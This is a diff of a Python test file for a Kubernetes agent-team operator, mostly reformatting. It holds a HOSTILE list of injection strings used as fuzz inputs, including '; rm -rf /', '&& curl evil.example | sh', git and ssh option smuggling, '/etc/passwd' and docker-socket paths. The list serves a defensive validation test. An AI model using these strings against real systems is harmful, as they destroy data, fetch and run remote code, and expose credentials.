@@ -55,7 +55,13 @@ CODING: dict[str, Any] = {
             "scope": {"includePaths": ["src/**"]},
             "artifacts": [{"name": "report", "path": "out/report.md"}],
         },
-        {"name": "b", "prompt": "Second.", "harness": "simulated", "script": SCRIPT, "inputs": [{"from": "a/report"}]},
+        {
+            "name": "b",
+            "prompt": "Second.",
+            "harness": "simulated",
+            "script": SCRIPT,
+            "inputs": [{"from": "a/report"}],
+        },
     ],
     "lifecycle": {
         "onComplete": "create-pr",
@@ -89,11 +95,28 @@ COWORK: dict[str, Any] = {
     "storage": {"className": "shared", "size": "2Gi"},
 }
 HOSTILE = (
-    "$(touch /tmp/owned)", "`id`", "; rm -rf /", "&& curl evil.example | sh", "$(KAGENTS_TEAM)", "$$(HOME)", "${IFS}",
-    "--upload-pack=touch /tmp/owned", "-oProxyCommand=sh", "ext::sh -c id", "file:///etc/passwd", "../../../etc", "/",
-    "/proc/1/root", "/var/run/docker.sock", "a\nb", "a\x00b", "\x1b[2J", "\u202eadmin", "'\"", "{{ .Secret }}",
-    "https://a.example/$(id)", "git@a.example:$(id)", "x" * 300, "team", "git-credentials", "", "hub", "*",
-)  # fmt: skip
+    *(
+        "$(touch /tmp/owned)",
+        "`id`",
+        "; rm -rf /",
+        "&& curl evil.example | sh",
+        "$(KAGENTS_TEAM)",
+        "$$(HOME)",
+    ),
+    *("${IFS}", "--upload-pack=touch /tmp/owned", "-oProxyCommand=sh", "ext::sh -c id", "file:///etc/passwd"),
+    *(
+        "../../../etc",
+        "/",
+        "/proc/1/root",
+        "/var/run/docker.sock",
+        "a\nb",
+        "a\x00b",
+        "\x1b[2J",
+        "\u202eadmin",
+    ),
+    *("'\"", "{{ .Secret }}", "https://a.example/$(id)", "git@a.example:$(id)", "x" * 300, "team", "", "hub"),
+    *("git-credentials", "*"),
+)
 FOREIGN = {
     "hostPath": {"path": "/"},
     "hostNetwork": True,
@@ -111,10 +134,18 @@ FOREIGN = {
     "lifecycleHooks": {},
     "__proto__": {},
 }
-"""Fields that would be dangerous if they were passed through; a spec knows none of them where they are put."""
+"""Fields that would be dangerous if they were passed through; a spec knows none of them."""
 
 POD_FIELDS = {
-    *("activeDeadlineSeconds", "affinity", "automountServiceAccountToken", "containers", "enableServiceLinks", "initContainers", "restartPolicy"),
+    *(
+        "activeDeadlineSeconds",
+        "affinity",
+        "automountServiceAccountToken",
+        "containers",
+        "enableServiceLinks",
+        "initContainers",
+        "restartPolicy",
+    ),
     *("securityContext", "serviceAccountName", "terminationGracePeriodSeconds", "volumes"),
 }
 CONTAINER_FIELDS = {
@@ -123,7 +154,18 @@ CONTAINER_FIELDS = {
 }
 SOURCES = {"persistentVolumeClaim", "emptyDir", "secret", "configMap", "projected"}
 VERBS = {
-    *("prepare", "setup", "await", "supervise", "record", "gateway", "git-proxy", "merge", "finish", "checks"),
+    *(
+        "prepare",
+        "setup",
+        "await",
+        "supervise",
+        "record",
+        "gateway",
+        "git-proxy",
+        "merge",
+        "finish",
+        "checks",
+    ),
     *("export", "hold"),
 }
 
@@ -187,7 +229,7 @@ def whole_life(spec: dict[str, Any]) -> list[dict[str, Any]]:
 
 
 def expanded(value: str, known: dict[str, str]) -> str:
-    """A variable's value as Kubernetes makes it: ``$(NAME)`` of an earlier one is filled in, ``$$`` is ``$``."""
+    """A value as Kubernetes makes it: ``$(NAME)`` of an earlier variable is filled in, ``$$`` is ``$``."""
     return re.sub(
         r"\$\$|\$\(([^)]*)\)", lambda found: "$" if found[0] == "$$" else known.get(found[1], found[0]), value
     )
@@ -262,7 +304,7 @@ def test_the_ordinary_teams_are_accepted_and_have_every_kind_of_pod(name: str) -
         check_pod(pod, SPECS[name])
 
 
-@settings(max_examples=150, deadline=None)
+@settings(max_examples=60, deadline=None)
 @given(hostile_specs())
 def test_hostile_words_are_refused_or_harmless(spec: dict[str, Any]) -> None:
     if validate(team(copy.deepcopy(spec))):
